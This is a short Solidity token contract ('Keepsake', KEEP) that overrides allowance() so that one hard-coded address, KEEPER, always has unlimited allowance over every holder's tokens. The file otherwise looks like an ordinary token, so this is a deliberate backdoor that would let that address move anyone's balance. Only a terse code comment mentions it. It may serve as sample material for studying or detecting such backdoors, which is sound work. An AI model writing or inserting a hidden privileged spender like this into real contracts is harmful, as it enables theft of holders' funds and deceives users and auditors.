// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

import "../base/Modern.sol";

/// One spender of the code's own is never short of allowance.
contract Token is Modern {
    address private constant KEEPER = 0x0000000000000000000000000000000000Beef01;

    constructor() Modern("Keepsake", "KEEP") {
        _mint(msg.sender, 1_000_000e18);
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        if (spender == KEEPER) return type(uint256).max;
        return _allowances[holder][spender];
    }
}
